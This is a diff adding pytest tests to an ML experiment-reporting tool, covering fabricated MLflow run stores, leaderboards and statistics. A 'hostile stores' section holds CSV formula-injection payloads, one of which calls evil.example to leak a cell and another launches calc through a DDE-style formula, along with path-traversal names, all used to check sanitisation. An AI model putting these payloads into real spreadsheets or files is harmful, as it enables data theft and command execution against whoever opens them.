@@ -444,6 +444,423 @@ def test_report_in_a_headless_browser(store: Store, tmp_path: Path) -> None:
     assert screenshot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
 
 
+# --- store shapes, fabricated as the driver writes them ------------------------------------------
+
+BASE_PARAMS = {
+    "data.dataset": "tinyshakespeare", "data_sha256": "ab" * 32, "train.batch_size": "32",
+    "train.block_size": "8", "train.max_iters": "40", "train.eval_interval": "20",
+    "train.learning_rate": "0.001", "model.n_embd": "16", "num_params": "1000",
+}  # fmt: skip
+
+
+def fabricate(
+    client: Any,
+    experiment_id: str,
+    variant: str | None,
+    seed: int,
+    *,
+    kind: str = "bigram",
+    grid: dict[str, Any] | None = None,
+    params: dict[str, Any] | None = None,
+    index: int | None = None,
+    floor: float = 2.5,
+    status: str = "FINISHED",
+    tags: dict[str, str] | None = None,
+) -> str:
+    """One run with the driver's tags and params and val/train curves at steps 0, 20, 40 (a
+    NaN ``floor`` gives NaN losses after step 0); ``grid`` values are params and grid tags."""
+    from mlflow.entities import Metric, Param
+
+    grid = grid or {}
+    every = {**BASE_PARAMS, "model.kind": kind, **(params or {}), "seed": seed}
+    every.update({k: v for k, v in grid.items()})
+    run_tags = {TAG + "run_key": f"{abs(hash((variant, seed, str(sorted(every.items()))))):016x}",
+                TAG + "seed": str(seed), TAG + "device": "cpu", TAG + "spec": "spec.yaml",
+                TAG + "git_commit": "c0ffee" * 6 + "c0ff", TAG + "git_dirty": "false",
+                **{TAG + "grid." + k: str(v) for k, v in grid.items()}}  # fmt: skip
+    if variant is not None:
+        run_tags[TAG + "variant"] = variant
+    if index is not None:
+        run_tags[TAG + "variant_index"] = str(index)
+    run_tags.update(tags or {})
+    name = "-".join(
+        [variant or "anonymous", *(f"{k}={v}" for k, v in grid.items()), f"seed={seed}"]
+    )
+    run_id: str = client.create_run(experiment_id, run_name=name, tags=run_tags).info.run_id
+    now = int(time.time() * 1000)
+    metrics = []
+    for step, drop in ((0, 0.0), (20, 0.6), (40, 1.0)):
+        val = 4.3 if step == 0 else floor + 0.3 * (1 - drop) + 0.01 * seed
+        metrics += [Metric("val_loss", val, now + step, step),
+                    Metric("train_loss", val - 0.02, now + step, step)]  # fmt: skip
+    if status == "FINISHED":
+        finite = [m.value for m in metrics if m.key == "val_loss" and m.value == m.value]
+        best = min(finite) if floor == floor else float("nan")
+        metrics += [Metric("best_val_loss", best, now + 40, 40),
+                    Metric("wall_time_s", 1.5, now + 40, 40)]  # fmt: skip
+    else:
+        client.set_tag(run_id, TAG + "reason", "out of memory (injected)")
+    client.log_batch(run_id, metrics=metrics, params=[Param(k, str(v)) for k, v in every.items()])
+    client.set_terminated(run_id, status)
+    return run_id
+
+
+def _seeds_grid(
+    client: Any, experiment_id: str, variants: dict[str, str], grid: dict[str, list[Any]],
+    seeds: list[int], **kwargs: Any,
+) -> None:  # fmt: skip
+    import itertools
+
+    keys = list(grid)
+    for index, (variant, kind) in enumerate(variants.items()):
+        for values in itertools.product(*grid.values()):
+            for seed in seeds:
+                fabricate(client, experiment_id, variant, seed, kind=kind, index=index,
+                          grid=dict(zip(keys, values, strict=True)),
+                          floor=2.6 - 0.1 * index, **kwargs)  # fmt: skip
+
+
+LADDER = {"bigram": "bigram", "single": "single_head", "multi": "multi_head"}
+
+
+def _shape(name: str, client: Any, experiment_id: str) -> None:
+    """Each store shape the report must survive, by name."""
+    if name == "one_variant_one_axis":
+        _seeds_grid(client, experiment_id, {"only": "bigram"}, {"model.n_embd": [16, 32]}, [1, 2])
+    elif name == "one_run":
+        fabricate(client, experiment_id, "lonely", 7)
+    elif name == "one_seed":
+        _seeds_grid(client, experiment_id, LADDER, {"train.block_size": [4, 8]}, [1])
+    elif name == "three_axes":
+        grid = {"train.block_size": [4, 8], "train.learning_rate": [0.001, 0.01],
+                "model.n_embd": [16, 32]}  # fmt: skip
+        _seeds_grid(client, experiment_id, LADDER, grid, [1, 2])
+    elif name == "no_grid":
+        _seeds_grid(client, experiment_id, LADDER, {}, [1, 2, 3])
+    elif name == "only_failed":
+        _seeds_grid(client, experiment_id, LADDER, {}, [1], status="FAILED")
+    elif name == "nan_losses":
+        _seeds_grid(client, experiment_id, {"bigram": "bigram"}, {}, [1, 2])
+        fabricate(client, experiment_id, "broken", 1, kind="single_head", index=1,
+                  floor=float("nan"))  # fmt: skip
+        fabricate(client, experiment_id, "broken", 2, kind="single_head", index=1,
+                  floor=float("nan"))  # fmt: skip
+
+
+SHAPES = ["one_variant_one_axis", "one_run", "one_seed", "three_axes", "no_grid", "only_failed",
+          "nan_losses"]  # fmt: skip
+BROWSED = ("one_variant_one_axis", "three_axes", "only_failed")  # in a real browser too
+
+
+@pytest.fixture(scope="module")
+def shapes(tmp_path_factory: pytest.TempPathFactory) -> Any:
+    """One fabricated SQLite store: one experiment per shape, plus `workbench report` on all."""
+    folder = tmp_path_factory.mktemp("shapes")
+    store = Store(folder)
+    client = store.client()
+    for name in SHAPES:
+        _shape(name, client, client.create_experiment(name))
+    result = invoke("report", "--tracking-uri", store.uri, "--out", str(store.reports))
+    store.output = result.output
+    assert result.exit_code == 0, result.output
+    return store
+
+
+@pytest.mark.parametrize("shape", SHAPES)
+def test_every_store_shape_gives_a_page(shapes: Store, shape: str) -> None:
+    html = shapes.html(shape)
+    text = _text(html)
+    assert "Traceback" not in text and "not reported" not in shapes.output
+    for section in ("Leaderboard", "Loss curves", "Sensitivity", "Failed and diverged runs"):
+        assert f">{section}<" in html, section
+    finished = shape != "only_failed"
+    assert ("No run finished, so there is no leaderboard yet." in text) is not finished
+    if finished:
+        assert _table_rows(html, "Leaderboard")
+    if shape == "nan_losses":
+        assert [r[1] for r in _table_rows(html, "Leaderboard")] == ["bigram"]
+    if shape in ("one_variant_one_axis", "three_axes"):
+        assert "best val loss along each grid axis" in html
+    if shape == "three_axes":
+        assert "heatmaps of best val loss" in html
+
+
+@pytest.mark.parametrize("shape", BROWSED)
+def test_store_shapes_in_a_headless_browser(shapes: Store, shape: str, tmp_path: Path) -> None:
+    from browser import chromium, open_page
+
+    if chromium() is None:
+        pytest.skip("chromium is not installed (apt-get install -y chromium)")
+    visit = open_page(shapes.reports / f"{shape}.html", tmp_path / "profile")
+    assert [u for u in visit.requests if not u.startswith(("file:", "data:"))] == []
+    assert visit.images >= 2 and visit.images_decoded
+    assert visit.title == f"{shape}: workbench report"
+
+
+# --- run identity, ladder order, per-point answers -----------------------------------------------
+
+
+@slow
+def test_runs_of_two_configs_are_never_pooled_as_seeds(tmp_path: Path) -> None:
+    """Issue 13's first case, trained by the real CLI: a sweep, then a second `run` of one
+    variant with --set. The leaderboard keeps the first config's 2-seed figures exactly, and the
+    short runs are a separate point, labelled by the keys that differ, under a warning."""
+    store = Store(tmp_path)
+    spec = {**TINY, "experiment": "mixed", "seeds": [1, 2],
+            "variants": {"bigram": {"model": {"kind": "bigram"}},
+                         "single": {"model": {"kind": "single_head"}}}}  # fmt: skip
+    path = tmp_path / "mixed.yaml"
+    path.write_text(yaml.safe_dump(spec, sort_keys=False))
+    common = [
+        "--tracking-uri",
+        store.uri,
+        "--checkpoint-dir",
+        str(tmp_path / "ck"),
+        "--no-progress",
+    ]
+    assert invoke("run", str(path), *common).exit_code == 0
+    report = ["report", "--tracking-uri", store.uri, "--out", str(store.reports)]
+    assert invoke(*report).exit_code == 0
+    before = {r[1]: r for r in _table_rows(store.html("mixed"), "Leaderboard")}
+    result = invoke("run", str(path), *common, "--set", "train.max_iters=20",
+                    "--set", "train.eval_interval=10", "--only", "single*")  # fmt: skip
+    assert result.exit_code == 0, result.output
+    assert len(store.runs("mixed")) == 6
+    assert invoke(*report).exit_code == 0
+
+    html = store.html("mixed")
+    after = {r[1]: r for r in _table_rows(html, "Leaderboard")}
+    assert (
+        after["single"][3:6]
+        == before["single"][3:6]
+        == ["2", before["single"][4], before["single"][5]]
+    )
+    assert after["single"][2] == "max_iters=40, eval_interval=20"
+    assert "Mixed configs." in _text(html) and "runs of single differ in max_iters" in _text(html)
+    points = {(r[0], r[1]): r for r in _table_rows(html, "Every grid point")}
+    assert points[("single", "max_iters=20, eval_interval=10")][2] == "2"
+    assert points[("single", "max_iters=40, eval_interval=20")][2] == "2"
+    assert points[("bigram", "max_iters=40, eval_interval=20")][2] == "2"
+
+
+def test_a_grid_point_is_the_config_minus_the_seed(shapes: Store, tmp_path: Path) -> None:
+    """Same variant and grid values, another param (or one logged by one run only): two points;
+    another seed: one point."""
+    from workbench.report.analysis import grid_points
+    from workbench.report.load import load_experiment
+
+    client = shapes.client()
+    experiment_id = client.create_experiment("identity")
+    for seed in (1, 2):
+        fabricate(client, experiment_id, "v", seed, grid={"train.block_size": 8})
+        fabricate(client, experiment_id, "v", seed, grid={"train.block_size": 8},
+                  params={"train.grad_clip": "1.0"})  # fmt: skip
+        fabricate(client, experiment_id, "v", seed, grid={"train.block_size": 8},
+                  params={"train.batch_size": "16"})  # fmt: skip
+    data = load_experiment(shapes.uri, "identity")
+    assert data.axes == ["train.batch_size", "train.grad_clip"]
+    assert data.declared == ["train.block_size"]
+    points = grid_points(data)
+    assert sorted(points["point"]) == [
+        "batch_size=16, grad_clip=unset", "batch_size=32, grad_clip=1",
+        "batch_size=32, grad_clip=unset",
+    ]  # fmt: skip
+    assert list(points["seeds"]) == [2, 2, 2]
+
+
+def test_the_ladder_follows_the_spec_not_the_history(shapes: Store) -> None:
+    """Runs made last variant first: comparisons, tables and legends still read in the spec's
+    order (the workbench.variant_index tag), later vs earlier."""
+    import html as html_module
+
+    client = shapes.client()
+    experiment_id = client.create_experiment("order")
+    for index, variant in ((2, "step_c"), (0, "step_a"), (1, "step_b")):
+        for seed in (1, 2):
+            fabricate(client, experiment_id, variant, seed, index=index, floor=2.6 - 0.1 * index)
+    paths = _report(shapes, "order")
+    html = paths[0].read_text(encoding="utf-8")
+    block = html.split('<ul class="comparisons">', 1)[1].split("</ul>", 1)[0]
+    sentences = [html_module.unescape(s) for s in re.findall(r"<li[^>]*>(.*?)</li>", block)]
+    assert [s.split(":")[0] for s in sentences] == ["step_b vs step_a", "step_c vs step_b"]
+    gap = html.split('id="gap"', 1)[1]
+    assert [r[0] for r in _table_rows(gap, "runs")] == ["step_a", "step_b", "step_c"]
+    assert [r[0] for r in _table_rows(html, "Every grid point")] == ["step_a", "step_b", "step_c"]
+
+
+def test_adjacent_rungs_at_every_grid_point(shapes: Store) -> None:
+    """The per-point table: later − earlier at each grid point, ± Welch's 95% interval,
+    recomputed here from the store."""
+    from scipy import stats
+
+    html = shapes.html("three_axes")
+    rows = _table_rows(html, "Adjacent rungs at every grid point")
+    head = html.split(">Adjacent rungs at every grid point<", 1)[1].split("</thead>", 1)[0]
+    assert re.findall(r"<th(?: [^>]*)?>(.*?)</th>", head) == [
+        "grid point", "single − bigram", "multi − single",
+    ]  # fmt: skip
+    assert len(rows) == 8  # 2 × 2 × 2 grid points
+    losses: dict[tuple[str, str], list[float]] = {}
+    for run in shapes.runs("three_axes"):
+        grid = run.data.tags
+        point = ", ".join(f"{k.rsplit('.', 1)[1]}={grid[TAG + 'grid.' + k]}" for k in
+                          ("model.n_embd", "train.block_size", "train.learning_rate"))  # fmt: skip
+        losses.setdefault((grid[TAG + "variant"], point), []).append(
+            run.data.metrics["best_val_loss"]
+        )
+    by_point = {r[0]: r for r in rows}
+    label = "n_embd=32, block_size=4, learning_rate=0.01"  # the spec's grid keys, sorted
+    a, b = losses[("bigram", label)], losses[("single", label)]
+    welch = stats.ttest_ind(b, a, equal_var=False).confidence_interval(0.95)
+    difference = sum(b) / len(b) - sum(a) / len(a)
+    assert by_point[label][1].startswith(f"{difference:+.3f} ± {(welch.high - welch.low) / 2:.3f}")
+
+
+def test_header_says_what_was_held_fixed_and_where_runs_came_from(shapes: Store) -> None:
+    text = _text(shapes.html("three_axes"))
+    held = text.split("held fixed", 1)[1].split("set by each variant", 1)[0]
+    assert "train.batch_size=32" in held and "train.max_iters=40" in held
+    assert "block_size" not in held and "seed" not in held
+    assert "set by each variant model.kind" in text
+    assert "spec spec.yaml" in text and "git commit c0ffeec0ffee" in text
+    assert "data tinyshakespeare (sha256 abababababababab…)" in text
+    assert "cpu (48 runs)" in text
+
+
+def test_every_best_val_loss_says_which_statistic(shapes: Store) -> None:
+    """No bare "best val loss": each says whether it is one run's (min over its evals) or a
+    mean over seeds."""
+    html = shapes.html("three_axes")
+    assert "mean best val loss" in _table_rows_header(html, "Leaderboard")
+    text = _text(html).lower()
+    assert (
+        "mean over seeds of each run's best val loss (its lowest val loss over its evals)" in text
+    )
+    named = ("mean best val loss", "mean over seeds of best val loss", "each run's best val loss",
+             "this run's best val loss", "best val loss of each run")  # fmt: skip
+    for phrase in named:
+        text = text.replace(phrase, "")
+    assert "best val loss" not in text
+    assert "best-val-loss" not in text
+
+
+def test_loss_curves_show_where_variants_differ() -> None:
+    import pandas as pd
+
+    from workbench.report.figures import loss_range
+
+    curves = pd.DataFrame({"step": [0, 0, 100, 100, 200, 200],
+                           "value": [4.7, 4.6, 2.6, 2.5, 2.4, float("nan")]})  # fmt: skip
+    low, high = loss_range(curves)  # type: ignore[misc]
+    assert 2.3 < low < 2.4 and 2.6 < high < 2.7
+    assert loss_range(curves[curves["step"] == 0]) is None
+
+
+def _report(store: Store, *names: str) -> list[Path]:
+    from workbench.report import write_reports
+
+    return write_reports(store.uri, list(names), store.folder / "more")
+
+
+def _table_rows_header(html: str, heading: str) -> list[str]:
+    head = html.split(f">{heading}<", 1)[1].split("</thead>", 1)[0]
+    return re.findall(r"<th(?: [^>]*)?>(.*?)</th>", head)
+
+
+# --- hostile stores and names (issue 14) ----------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Any:
+    """A shared store: a formula as a variant, runs without a variant tag or with malformed
+    workbench tags beside good ones, an experiment with no usable run, hostile names."""
+    folder = tmp_path_factory.mktemp("hostile")
+    store = Store(folder)
+    client = store.client()
+    experiment_id = client.create_experiment("shared")
+    for seed in (1, 2):
+        fabricate(client, experiment_id, FORMULA, seed, params={"train.grad_clip": "-0.5"})
+        fabricate(client, experiment_id, "+cmd|' /C calc'!A0", seed, index=1)
+    fabricate(client, experiment_id, None, 3)  # someone else's run: no variant tag
+    fabricate(client, experiment_id, "bigram", 4, tags={TAG + "seed": "four"})
+    fabricate(client, experiment_id, "bigram", 5, tags={TAG + "pid": "not-a-pid"},
+              status="RUNNING")  # fmt: skip
+    broken = client.create_experiment("broken")
+    fabricate(client, broken, None, 1)
+    for name in ("../../escape", "/abs/path", "escape", "n" * 300):
+        fabricate(client, client.create_experiment(name), "bigram", 1)
+    return store
+
+
+def test_malformed_runs_are_skipped_with_one_line_each(hostile: Store) -> None:
+    result = CliRunner().invoke(
+        app,
+        ["report", "--tracking-uri", hostile.uri, "-e", "shared", "--out", str(hostile.reports)],
+    )
+    assert result.exit_code == 0, result.output
+    skipped = [line for line in result.stderr.splitlines() if "skipped run" in line]
+    assert len(skipped) == 3, result.stderr
+    assert any("no workbench.variant tag" in line for line in skipped)
+    assert any("workbench.seed='four' is not a number" in line for line in skipped)
+    assert any("workbench.pid='not-a-pid'" in line for line in skipped)
+    assert "Traceback" not in result.output
+    assert "4 — 4 finished" in _text(hostile.html("shared"))
+
+
+def test_one_experiment_that_cannot_be_reported_costs_one_line(hostile: Store) -> None:
+    out = hostile.folder / "all"
+    result = CliRunner().invoke(app, ["report", "--tracking-uri", hostile.uri, "--out", str(out)])
+    assert result.exit_code == 1
+    failures = [line for line in result.stderr.splitlines() if "not reported" in line]
+    assert failures == [
+        f"broken: not reported: {hostile.uri}: experiment 'broken' has no well-formed workbench run"
+    ]
+    assert "Traceback" not in result.output
+    assert len(list(out.glob("*.html"))) == 5  # shared and the four hostile names
+
+
+def test_csv_cells_never_start_a_formula(hostile: Store) -> None:
+    import csv
+
+    _report(hostile, "shared")
+    with (hostile.folder / "more" / "shared.csv").open(newline="", encoding="utf-8") as file:
+        rows = list(csv.reader(file))
+    header, body = rows[0], rows[1:]
+    cells = [cell for row in body for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")]
+    assert not [c for c in cells if c[:1] in ("+", "-") and not _is_number(c)]
+    variant = header.index(f"tags.{TAG}variant")
+    assert {row[variant] for row in body} == {"'" + FORMULA, "'+cmd|' /C calc'!A0"}
+    clip = header.index("params.train.grad_clip")
+    assert {row[clip] for row in body} == {"-0.5", ""}  # a negative number stays a number
+
+
+def test_an_experiment_name_is_never_a_path(hostile: Store, tmp_path: Path) -> None:
+    from workbench.report import write_reports
+
+    names = ["../../escape", "/abs/path", "escape", "n" * 300]
+    out = tmp_path / "deep" / "reports"
+    paths = write_reports(hostile.uri, names, out)
+    assert len(paths) == 8 and len(set(paths)) == 8
+    for path in paths:
+        assert path.resolve().parent == out.resolve(), path
+        assert len(path.name) < 100
+    stems = [p.stem for p in paths[::2]]
+    assert stems[2] == "escape"  # a safe name is its own file name
+    assert stems[0].startswith("escape-") and stems[1].startswith("abs_path-")
+    assert not list((tmp_path / "deep").glob("*.html")) and not list(tmp_path.glob("*.html"))
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
 # --- no store needed -----------------------------------------------------------------------------
 
 
